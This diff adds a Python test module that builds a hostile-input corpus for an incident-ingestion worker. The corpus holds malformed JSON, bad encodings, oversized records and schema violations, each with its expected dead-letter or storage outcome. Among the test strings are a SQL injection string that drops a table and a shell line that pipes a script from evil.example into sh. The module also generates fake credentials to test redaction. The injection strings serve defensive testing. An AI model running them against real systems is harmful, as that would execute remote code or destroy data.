@@ -1,0 +1,680 @@
+"""The hostile-input corpus: records built to break a decoder, a database or a log, each with the
+outcome the contract demands (SPEC §1, §4, §5).
+
+Every kind is applied on every signal topic (on both payload shapes of `ecs` and `runner` where it
+makes sense). A kind's outcome is either a dead letter with a stable `x-dlq-reason` (the record's
+key, value and headers kept byte for byte) or processing: valid input, however odd, must be stored
+exactly as sent, secrets excepted.
+
+Size limits: the worker runs with its default `max_message_bytes` (1 MiB), so a value of 1 MiB + 1
+byte and a 10 MB string field are both `too_large`, and a valid value of exactly 1 MiB is
+processed. The corpus' producer uses a 32 MiB `max_request_size` so that the broker gets them.
+The 1 MiB + 1 record must reach the dead-letter topic byte for byte. The 10 MB one is larger than
+what the worker republishes (its limit plus some headroom, as a real dead-letter topic's
+`max.message.bytes` would be): by the README's contract it is dead-lettered without its value,
+with `x-dlq-value-omitted: true` and `x-dlq-original-size`, the original staying at the source
+offset named in the headers. It must never block its partition.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import random
+import string
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from typing import Any
+
+from tests.e2e.expected import SHAPE_FAMILY, SHAPES, good_signal
+
+MAX_MESSAGE_BYTES = 1_048_576
+TEN_MB = 10 * 1024 * 1024
+
+#: A field: dotted names, list indexes as numbers (`reasons.0.message`).
+Path = str
+
+#: Text that must reach PostgreSQL, Kafka and the logs as data, never as code.
+SQL = "'; DROP TABLE incidents; -- \" OR 1=1 /* */ \\x00' UNION SELECT NULL; \\"
+SHELL = "$(curl http://evil.example/x | sh) `id` | cat /etc/hosts & echo > /tmp/x < /dev/null ${HOME} %s %n {0}"
+UNICODE = (
+    "\u202eevil\u202c \u200f\u05e2\u05d1\u05e8\u05d9\u05ea\u200e \u2764\ufe0f "
+    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 e\u0301\u0327 \ufdfd "
+    "\U0001d518\U0001d52b\U0001d526 \ufeff\u200b\u2028\u00a0 \u6f22\u5b57 \U0001f600"
+)
+
+
+@dataclass(frozen=True)
+class Case:
+    """One hostile record. `reason` None: it is valid and must be processed."""
+
+    kind: str
+    shape: str
+    value: bytes | None
+    reason: str | None
+    payload: dict[str, Any] | None = None
+    key: bytes | None = None
+    headers: tuple[tuple[str, bytes], ...] = ()
+    secrets: tuple[str, ...] = ()
+    #: Processed cases: the stored primary evidence must equal the payload (not when redacted).
+    round_trip: bool = True
+    #: Too large to republish: the dead letter may carry no value (see the module docstring).
+    value_may_be_omitted: bool = False
+    #: Cases that have broken the worker before run in a phase of their own, after the ordinary
+    #: ones, so that a failure there hides nothing else: "ordinary", "binary_headers", "oversize".
+    phase: str = "ordinary"
+
+    @property
+    def family(self) -> str:
+        return SHAPE_FAMILY[self.shape]
+
+
+@dataclass(frozen=True)
+class ShapeFields:
+    """Where each mutation goes in a payload of one shape."""
+
+    strings: tuple[Path, ...]  # every string field the worker reads
+    key_text: Path  # a string that is part of the incident key
+    free_text: tuple[Path, ...]  # human-written text (where secrets get pasted)
+    required: Path
+    required_text: Path  # a required string that must not be empty
+    timestamp: Path
+    enum: tuple[Path, Any, str] | None  # (field, unknown value, expected reason)
+    integer: Path
+    name: tuple[Path, int]  # a length-limited field and its limit
+    items: Path | None  # a list limited to 1000 items
+    wrong_type: tuple[Path, Any]
+
+
+FIELDS: dict[str, ShapeFields] = {
+    "deploy_status": ShapeFields(
+        strings=("env", "deployId", "reasons.0.code", "reasons.0.severity", "reasons.0.message",
+                 "signals.note"),
+        key_text="env", free_text=("reasons.0.message", "signals.note"),
+        required="signals", required_text="env", timestamp="changedAt",
+        enum=("status", "PURPLE", "schema_violation"), integer="signals.probe.p99Ms",
+        name=("env", 512), items="reasons", wrong_type=("reasons", {"code": "HEALTH_FAIL"}),
+    ),
+    "verification": ShapeFields(
+        strings=("runId", "playbookId", "playbookVersion", "env", "deployId", "reportHash",
+                 "failedSteps.0.id", "failedSteps.0.title", "failedSteps.0.error"),
+        key_text="deployId", free_text=("failedSteps.0.error", "failedSteps.0.title"),
+        required="runId", required_text="playbookId", timestamp="completedAt",
+        enum=("status", "flaky", "schema_violation"), integer="attempt",
+        name=("failedSteps.0.title", 500), items="failedSteps", wrong_type=("failedSteps", "health"),
+    ),
+    "ecs_stopped_task": ShapeFields(
+        strings=("cluster", "taskArn", "taskDefinition", "stoppedReason", "lastStatus",
+                 "containers.0.name", "containers.0.reason"),
+        key_text="cluster", free_text=("stoppedReason", "containers.0.reason"),
+        required="taskArn", required_text="cluster", timestamp="stoppedAt",
+        enum=None,  # no enumerated field in this shape: see ecs_eventbridge
+        integer="exitCode", name=("containers.0.name", 500), items="containers",
+        wrong_type=("exitCode", "137"),
+    ),
+    "ecs_eventbridge": ShapeFields(
+        strings=("id", "account", "region", "detail.clusterArn", "detail.taskArn",
+                 "detail.taskDefinitionArn", "detail.stoppedReason", "detail.containers.0.name",
+                 "detail.group"),
+        key_text="detail.taskArn", free_text=("detail.stoppedReason", "detail.containers.0.reason"),
+        required="source", required_text="id", timestamp="detail.stoppedAt",
+        enum=("detail-type", "ECS Task Teleported", "unmappable"),
+        integer="detail.containers.0.exitCode", name=("detail.containers.0.name", 500),
+        items="resources", wrong_type=("detail.containers", {"name": "c0"}),
+    ),
+    "runner_step": ShapeFields(
+        strings=("runId", "runUrl", "stepName", "errorMessage", "jobName", "workflowName",
+                 "repository", "ref"),
+        key_text="runId", free_text=("errorMessage",),
+        required="stepName", required_text="runId", timestamp="completedAt",
+        enum=("conclusion", "exploded", "schema_violation"), integer="attempt",
+        name=("stepName", 500), items=None, wrong_type=("conclusion", ["failure"]),
+    ),
+    "github_workflow_job": ShapeFields(
+        strings=("workflow_job.workflow_name", "workflow_job.name", "workflow_job.head_branch",
+                 "workflow_job.html_url", "workflow_job.steps.1.name", "repository.full_name"),
+        key_text="workflow_job.steps.1.name", free_text=("workflow_job.steps.1.log",),
+        required="workflow_job.run_id", required_text="workflow_job.name",
+        timestamp="workflow_job.completed_at", enum=("action", "exploded", "schema_violation"),
+        integer="workflow_job.id", name=("workflow_job.steps.1.name", 500),
+        items="workflow_job.steps", wrong_type=("workflow_job.steps", {"name": "build"}),
+    ),
+}  # fmt: skip
+
+
+# --- helpers ------------------------------------------------------------------------------------
+
+
+def _parts(path: Path) -> list[str | int]:
+    return [int(part) if part.isdigit() else part for part in path.split(".")]
+
+
+def get(data: Any, path: Path) -> Any:
+    for part in _parts(path):
+        data = data[part]
+    return data
+
+
+def text_at(data: Any, path: Path) -> str | None:
+    """The string at `path`, or None when the field is absent or not a string."""
+    try:
+        found = get(data, path)
+    except (KeyError, IndexError, TypeError):
+        return None
+    return found if isinstance(found, str) else None
+
+
+def put(data: Any, path: Path, value: Any) -> None:
+    *parents, last = _parts(path)
+    for part in parents:
+        data = data[part]
+    data[last] = value
+
+
+def drop(data: Any, path: Path) -> None:
+    *parents, last = _parts(path)
+    for part in parents:
+        data = data[part]
+    del data[last]
+
+
+def dumps(payload: Any, *, ascii_only: bool = False) -> bytes:
+    return json.dumps(payload, ensure_ascii=ascii_only).encode()
+
+
+def with_field(value: bytes, raw: bytes) -> bytes:
+    """A JSON object's bytes with one more member written raw: `…, "note": <raw>}`."""
+    return value[:-1] + b', "note": ' + raw + b"}"
+
+
+def _random(rng: random.Random, alphabet: str, size: int) -> str:
+    return "".join(rng.choice(alphabet) for _ in range(size))
+
+
+def make_secrets(rng: random.Random) -> dict[str, str]:
+    """Credentials of the shapes SPEC §5 names, random so that a leak cannot be a coincidence."""
+    alnum = string.ascii_letters + string.digits
+    upper = string.ascii_uppercase + string.digits
+    return {
+        "aws_access_key": "AKIA" + _random(rng, upper, 16),
+        "github_token": "ghp_" + _random(rng, alnum, 36),
+        "jwt": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
+        + "eyJzdWIiOi"
+        + _random(rng, alnum, 30)
+        + "."
+        + _random(rng, alnum + "-_", 43),
+        "bearer": _random(rng, alnum, 32),
+        "password": "hunter2-" + _random(rng, alnum, 16),
+        "api_key": _random(rng, alnum, 28),
+        "token": _random(rng, alnum, 24),
+        "client_secret": _random(rng, alnum, 24),
+        "private_key": _random(rng, alnum, 40),
+        "url_password": _random(rng, alnum, 20),
+    }
+
+
+def secret_text(secrets: dict[str, str]) -> str:
+    """A log excerpt as humans paste it into error messages."""
+    return (
+        f"deploy failed: password={secrets['password']} rejected; retried with "
+        f"Authorization: Bearer {secrets['bearer']} (aws {secrets['aws_access_key']}, "
+        f"gh {secrets['github_token']}, id_token {secrets['jwt']}) "
+        f"cloning https://deploy:{secrets['url_password']}@git.example.com/shop.git"
+    )
+
+
+def plant_secrets(payload: dict[str, Any], shape: str, secrets: dict[str, str]) -> None:
+    """Secrets in every free-text field, and under secret-looking keys (extra fields)."""
+    for path in FIELDS[shape].free_text:
+        put(payload, path, secret_text(secrets))
+    payload["api_key"] = secrets["api_key"]
+    payload["token"] = secrets["token"]
+    payload["credentials"] = {"client_secret": secrets["client_secret"], "user": "deployer"}
+    payload["private_key"] = (
+        f"-----BEGIN RSA PRIVATE KEY-----\nMIIE{secrets['private_key']}\n"
+        "-----END RSA PRIVATE KEY-----"
+    )
+    payload["headers"] = {"Authorization": f"Bearer {secrets['bearer']}", "X-Request-Id": "r-1"}
+
+
+# --- the kinds ----------------------------------------------------------------------------------
+
+Builder = Callable[[str, int, random.Random], list[Case]]
+
+
+@dataclass(frozen=True)
+class Kind:
+    name: str
+    outcome: str  # what must happen, in words
+    build: Builder
+    families_only: bool = False  # once per topic instead of once per payload shape
+
+
+KINDS: list[Kind] = []
+
+
+def kind(name: str, outcome: str, *, families_only: bool = False) -> Callable[[Builder], Builder]:
+    def register(build: Builder) -> Builder:
+        KINDS.append(Kind(name, outcome, build, families_only))
+        return build
+
+    return register
+
+
+def base(shape: str, ident: int) -> dict[str, Any]:
+    return good_signal(shape, ident)
+
+
+def rejected(name: str, shape: str, value: bytes | None, reason: str, **extra: Any) -> list[Case]:
+    return [Case(name, shape, value, reason, **extra)]
+
+
+def processed(name: str, shape: str, payload: dict[str, Any], **extra: Any) -> list[Case]:
+    value = extra.pop("value", None) or dumps(payload)
+    return [Case(name, shape, value, None, payload=payload, **extra)]
+
+
+# Bytes that are not UTF-8 JSON text, or JSON that is not an object.
+
+#: A valid payload's bytes, transformed: (transformation, expected reason).
+TRANSFORMS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
+    "truncated_json": (lambda v: v[: len(v) // 2], "invalid_json"),
+    "trailing_garbage": (lambda v: v + b' {"again": 1}', "invalid_json"),
+    "not_json": (lambda v: b"status=RED env=prod deploy=d-1", "invalid_json"),
+    "json_with_comments": (lambda v: b"// exported by monitor\n" + v, "invalid_json"),
+    "single_quoted_json": (lambda v: v.replace(b'"', b"'"), "invalid_json"),
+    # RFC 8259 §8.1: JSON text must not start with a byte order mark.
+    "utf8_byte_order_mark": (lambda v: b"\xef\xbb\xbf" + v, "invalid_json"),
+    "whitespace_only": (lambda v: b" \t\r\n ", "invalid_json"),
+    "json_array": (lambda v: b"[" + v + b"]", "schema_violation"),
+    "json_string": (lambda v: json.dumps(v.decode()).encode(), "schema_violation"),
+    "json_number": (lambda v: b"42", "schema_violation"),
+    "json_true": (lambda v: b"true", "schema_violation"),
+    "json_null_literal": (lambda v: b"null", "schema_violation"),
+    "empty_value": (lambda v: b"", "empty_value"),
+}
+
+#: A valid payload with one more member written raw, `…, "note": <raw>}`: (raw, reason).
+RAW_MEMBERS: dict[str, tuple[bytes, str]] = {
+    "invalid_utf8": (b'"\xff\xfe"', "invalid_encoding"),
+    "overlong_utf8": (b'"\xc0\xaf"', "invalid_encoding"),
+    "utf8_encoded_surrogate": (b'"\xed\xa0\x80"', "invalid_encoding"),
+    "truncated_utf8_sequence": (b'"\xe2\x82"', "invalid_encoding"),
+    "raw_nul_byte": (b'"before\x00after"', "invalid_json"),  # a raw control character
+    "nan_literal": (b"NaN", "invalid_json"),
+    "infinity_literal": (b"-Infinity", "invalid_json"),
+    "deep_array_nesting_10000_levels": (b"[" * 10_000 + b"]" * 10_000, "invalid_json"),
+    "deep_object_nesting_10000_levels": (b'{"a": ' * 10_000 + b"1" + b"}" * 10_000, "invalid_json"),
+    "nesting_over_64_levels": (b"[" * 100 + b"]" * 100, "invalid_json"),  # the contract's limit
+    # Valid JSON, but not storable: numbers out of range, NUL, unpaired surrogates.
+    "huge_integer_5000_digits": (b"1" + b"0" * 5000, "schema_violation"),
+    "float_overflow_1e400": (b"1e400", "schema_violation"),
+    "escaped_nul_in_extra_field": (b'"before\\u0000after"', "schema_violation"),
+    "lone_surrogate_escape": (b'"\\udc00 alone"', "schema_violation"),
+    "lone_surrogate_in_object_key": (b'{"key\\ud800": 1}', "schema_violation"),
+}
+
+
+def _transformed(name: str, change: Callable[[bytes], bytes], reason: str) -> Builder:
+    def build(shape: str, ident: int, rng: random.Random) -> list[Case]:
+        return rejected(name, shape, change(dumps(base(shape, ident))), reason)
+
+    return build
+
+
+def _with_raw_member(name: str, raw: bytes, reason: str) -> Builder:
+    def build(shape: str, ident: int, rng: random.Random) -> list[Case]:
+        return rejected(name, shape, with_field(dumps(base(shape, ident)), raw), reason)
+
+    return build
+
+
+KINDS.extend(
+    Kind(name, f"dead letter {reason}", _transformed(name, change, reason))
+    for name, (change, reason) in TRANSFORMS.items()
+)
+KINDS.extend(
+    Kind(name, f"dead letter {reason}", _with_raw_member(name, raw, reason))
+    for name, (raw, reason) in RAW_MEMBERS.items()
+)
+
+
+@kind("duplicate_keys", "dead letter invalid_json (the second value would win silently)")
+def _duplicate_keys(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    payload = base(shape, ident)
+    first = next(iter(payload))
+    value = dumps(payload)[:-1] + b', "' + first.encode() + b'": ' + dumps(payload[first]) + b"}"
+    return rejected("duplicate_keys", shape, value, "invalid_json")
+
+
+@kind("tombstone", "dead letter empty_value, the DLQ record a tombstone too", families_only=True)
+def _tombstone(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    return rejected("tombstone", shape, None, "empty_value", key=f"tombstone-{ident}".encode())
+
+
+# Storable text and numbers.
+
+
+@kind("escaped_nul_in_required_field", "dead letter schema_violation (text cannot hold NUL)")
+def _escaped_nul(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    payload = base(shape, ident)
+    path = FIELDS[shape].required_text
+    put(payload, path, get(payload, path) + "\u0000")
+    return rejected(
+        "escaped_nul_in_required_field", shape, dumps(payload, ascii_only=True), "schema_violation"
+    )
+
+
+@kind("huge_integer_10e100", "dead letter schema_violation (out of the 64-bit range)")
+def _huge_int(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    payload = base(shape, ident)
+    put(payload, FIELDS[shape].integer, 10**100)
+    return rejected("huge_integer_10e100", shape, dumps(payload), "schema_violation")
+
+
+# Schema.
+
+#: Marks a field to remove.
+DELETE = object()
+
+#: One field of a valid payload changed: (the field, its new value). Each is a schema_violation.
+SCHEMA_MUTATIONS: dict[str, Callable[[ShapeFields], tuple[Path, Any]]] = {
+    "wrong_type": lambda f: f.wrong_type,
+    "missing_required_field": lambda f: (f.required, DELETE),
+    "null_required_field": lambda f: (f.required, None),
+    "empty_required_string": lambda f: (f.required_text, ""),
+    "timestamp_without_offset": lambda f: (f.timestamp, "2024-05-01T00:00:00"),
+    "timestamp_year_0": lambda f: (f.timestamp, "0000-01-01T00:00:00Z"),
+    "timestamp_year_10000": lambda f: (f.timestamp, "10000-01-01T00:00:00Z"),
+    "timestamp_month_13": lambda f: (f.timestamp, "2024-13-01T00:00:00Z"),
+    "timestamp_out_of_range_in_utc": lambda f: (f.timestamp, "9999-12-31T23:59:59-01:00"),
+    "timestamp_as_epoch_number": lambda f: (f.timestamp, 1714521600),
+    "field_over_length_limit": lambda f: (f.name[0], "n" * (f.name[1] + 1)),
+}
+
+
+def _schema_mutation(name: str, change: Callable[[ShapeFields], tuple[Path, Any]]) -> Builder:
+    def build(shape: str, ident: int, rng: random.Random) -> list[Case]:
+        payload = base(shape, ident)
+        path, value = change(FIELDS[shape])
+        if value is DELETE:
+            drop(payload, path)
+        else:
+            put(payload, path, value)
+        return rejected(name, shape, dumps(payload), "schema_violation")
+
+    return build
+
+
+KINDS.extend(
+    Kind(name, "dead letter schema_violation", _schema_mutation(name, change))
+    for name, change in SCHEMA_MUTATIONS.items()
+)
+
+
+@kind("too_many_items", "dead letter schema_violation (more than 1000 items)")
+def _too_many(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    payload = base(shape, ident)
+    path = FIELDS[shape].items
+    if path is None:  # runner steps have no list: pile them into a GitHub job instead
+        shape, path = "github_workflow_job", "workflow_job.steps"
+        payload = base(shape, ident)
+    put(payload, path, get(payload, path)[:1] * 1001)
+    return rejected("too_many_items", shape, dumps(payload), "schema_violation")
+
+
+@kind("unknown_enum_value", "dead letter schema_violation (unmappable for another ECS event)")
+def _unknown_enum(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    spec = FIELDS[shape].enum
+    if spec is None:
+        return []
+    path, value, reason = spec
+    payload = base(shape, ident)
+    put(payload, path, value)
+    return rejected("unknown_enum_value", shape, dumps(payload), reason)
+
+
+@kind("signal_of_another_topic", "dead letter schema_violation", families_only=True)
+def _other_topic(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    other = {
+        "deploy_status": "verification",
+        "verification": "runner_step",
+        "ecs_stopped_task": "deploy_status",
+        "runner_step": "ecs_stopped_task",
+    }[shape]
+    return rejected("signal_of_another_topic", shape, dumps(base(other, ident)), "schema_violation")
+
+
+@kind("missing_field_the_key_needs", "dead letter unmappable (valid, but no incident key)")
+def _unmappable(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    payload = base(shape, ident)
+    if shape == "ecs_eventbridge":
+        del payload["detail"]["taskArn"]
+    elif shape == "github_workflow_job":
+        del payload["workflow_job"]["completed_at"]
+        for step in payload["workflow_job"]["steps"]:
+            del step["completed_at"]
+    else:
+        return []
+    return rejected("missing_field_the_key_needs", shape, dumps(payload), "unmappable")
+
+
+# Size.
+
+
+@kind("over_size_limit", "dead letter too_large", families_only=True)
+def _over_limit(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    value = padded(base(shape, ident), MAX_MESSAGE_BYTES + 1)
+    return rejected("over_size_limit", shape, value, "too_large", phase="oversize")
+
+
+@kind("ten_megabyte_string_field", "dead letter too_large", families_only=True)
+def _ten_mb(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    payload = base(shape, ident)
+    put(payload, FIELDS[shape].free_text[0], "x" * TEN_MB)
+    value = dumps(payload)
+    return rejected("ten_megabyte_string_field", shape, value, "too_large", phase="oversize",
+                    value_may_be_omitted=True)  # fmt: skip
+
+
+@kind("exactly_at_size_limit", "processed (the limit is inclusive)", families_only=True)
+def _at_limit(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    payload = base(shape, ident)
+    value = padded(payload, MAX_MESSAGE_BYTES)
+    return processed(
+        "exactly_at_size_limit", shape, json.loads(value), value=value, phase="oversize"
+    )
+
+
+def padded(payload: dict[str, Any], size: int) -> bytes:
+    """`payload` with an extra `padding` field making its JSON exactly `size` bytes."""
+    payload = {**payload, "padding": ""}
+    missing = size - len(dumps(payload))
+    payload["padding"] = "p" * missing
+    value = dumps(payload)
+    assert len(value) == size
+    return value
+
+
+# Valid input that must be stored exactly.
+
+
+def _injected(name: str, text: str, *, ascii_only: bool = False) -> Builder:
+    def build(shape: str, ident: int, rng: random.Random) -> list[Case]:
+        payload = base(shape, ident)
+        for path in FIELDS[shape].strings:
+            if (value := text_at(payload, path)) is not None:
+                put(payload, path, value + " " + text)
+        return processed(name, shape, payload, value=dumps(payload, ascii_only=ascii_only))
+
+    return build
+
+
+KINDS.extend(
+    [
+        Kind(
+            "sql_metacharacters_in_every_string_field",
+            "processed, stored exactly",
+            _injected("sql_metacharacters_in_every_string_field", SQL),
+        ),
+        Kind(
+            "shell_metacharacters_in_every_string_field",
+            "processed, stored exactly",
+            _injected("shell_metacharacters_in_every_string_field", SHELL),
+        ),
+        Kind(
+            "unicode_edge_cases_in_every_string_field",
+            "processed, stored exactly (RTL marks, emoji, ZWJ, combining marks, BOM, U+2028)",
+            _injected("unicode_edge_cases_in_every_string_field", UNICODE),
+        ),
+        Kind(
+            "unicode_as_escapes_and_surrogate_pairs",
+            "processed, stored as the decoded text",
+            _injected("unicode_as_escapes_and_surrogate_pairs", UNICODE, ascii_only=True),
+        ),
+    ]
+)
+
+
+@kind("unicode_normalization_is_not_applied", "processed: NFC and NFD spellings, two incidents")
+def _nfc_nfd(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    cases = []
+    for spelling in ("caf\u00e9", "cafe\u0301"):
+        payload = base(shape, ident)
+        path = FIELDS[shape].key_text
+        put(payload, path, get(payload, path) + " " + spelling)
+        cases += processed("unicode_normalization_is_not_applied", shape, payload)
+    return cases
+
+
+@kind("fields_exactly_at_length_limits", "processed (the limits are inclusive)")
+def _at_length_limits(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    payload = base(shape, ident)
+    path, limit = FIELDS[shape].name
+    put(payload, path, (get(payload, path) + "n" * limit)[:limit])
+    return processed("fields_exactly_at_length_limits", shape, payload)
+
+
+@kind("unknown_extra_fields", "processed, extra fields kept with the evidence (SPEC §1)")
+def _extras(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    payload = base(shape, ident)
+    payload["x-vendor"] = {"nested": [1, "two", None, True, {"k": [0.5, -7]}], "empty": {}}
+    payload["labels"] = ["a", "b"]
+    payload["count"] = 2**63 - 1
+    return processed("unknown_extra_fields", shape, payload)
+
+
+#: Kafka keys and header values are bytes, whatever the producer puts there.
+BINARY_HEADERS = (("bin", b"\x00\x01\xff\xfe"), ("", b""), ("dup", b"1"), ("dup", b"\x80"))
+
+
+@kind("binary_kafka_key_and_headers", "processed (the key and headers are the producer's)")
+def _binary_key(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    return processed(
+        "binary_kafka_key_and_headers",
+        shape,
+        base(shape, ident),
+        key=b"\xff\x00key",
+        headers=BINARY_HEADERS,
+        phase="binary_headers",
+    )
+
+
+@kind(
+    "binary_headers_on_a_rejected_record",
+    "dead letter invalid_json, the binary key and headers kept byte for byte",
+)
+def _binary_rejected(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    value = dumps(base(shape, ident))[:-1]
+    return rejected(
+        "binary_headers_on_a_rejected_record",
+        shape,
+        value,
+        "invalid_json",
+        key=b"\x00\xffk",
+        headers=BINARY_HEADERS,
+        phase="binary_headers",
+    )
+
+
+@kind("secrets_in_every_free_text_field", "processed, every planted secret redacted")
+def _secrets(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    payload = base(shape, ident)
+    secrets = make_secrets(rng)
+    plant_secrets(payload, shape, secrets)
+    return processed(
+        "secrets_in_every_free_text_field",
+        shape,
+        payload,
+        secrets=tuple(secrets.values()),
+        round_trip=False,
+    )
+
+
+@kind(
+    "secrets_in_a_rejected_record",
+    "dead letter schema_violation; the original bytes (secrets included) on the DLQ only",
+)
+def _secrets_rejected(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    payload = base(shape, ident)
+    secrets = make_secrets(rng)
+    plant_secrets(payload, shape, secrets)
+    path, wrong = FIELDS[shape].wrong_type
+    put(payload, path, wrong)
+    return rejected(
+        "secrets_in_a_rejected_record",
+        shape,
+        dumps(payload),
+        "schema_violation",
+        secrets=tuple(secrets.values()),
+    )
+
+
+@kind("credential_in_identifier_field",
+      "dead letter schema_violation: identifiers are stored and published as they are (README)")  # fmt: skip
+def _credential_identifier(shape: str, ident: int, rng: random.Random) -> list[Case]:
+    payload = base(shape, ident)
+    secrets = make_secrets(rng)
+    secret = secrets[("github_token", "aws_access_key", "jwt")[SHAPES.index(shape) % 3]]
+    path = FIELDS[shape].key_text
+    put(payload, path, f"{get(payload, path)} {secret}")
+    return rejected("credential_in_identifier_field", shape, dumps(payload), "schema_violation",
+                    secrets=(secret,))  # fmt: skip
+
+
+# --- the corpus ---------------------------------------------------------------------------------
+
+
+@dataclass
+class Corpus:
+    cases: list[Case] = field(default_factory=list)
+
+    def __iter__(self) -> Iterator[Case]:
+        return iter(self.cases)
+
+    @property
+    def secrets(self) -> set[str]:
+        return {s for case in self.cases for s in case.secrets}
+
+
+#: Shapes a `families_only` kind is applied to: one per topic.
+FAMILY_SHAPES = ("deploy_status", "verification", "ecs_stopped_task", "runner_step")
+
+
+def build_corpus(seed: int, *, first_ident: int = 10_000_000) -> Corpus:
+    """Every kind on every shape (or once per topic), each case with its own incident keys."""
+    rng = random.Random(seed)
+    corpus = Corpus()
+    ident = first_ident
+    for item in KINDS:
+        for shape in FAMILY_SHAPES if item.families_only else SHAPES:
+            ident += 10
+            for case in item.build(shape, ident, rng):
+                headers = case.headers or (
+                    ("corpus-case", f"{case.kind}/{case.shape}".encode()),
+                    ("trace", "ü-ñ-✓".encode()),
+                    ("trace", b""),
+                )
+                key = case.key or f"{case.kind}:{case.shape}:{ident}".encode()
+                corpus.cases.append(dataclasses.replace(case, key=key, headers=headers))
+    return corpus
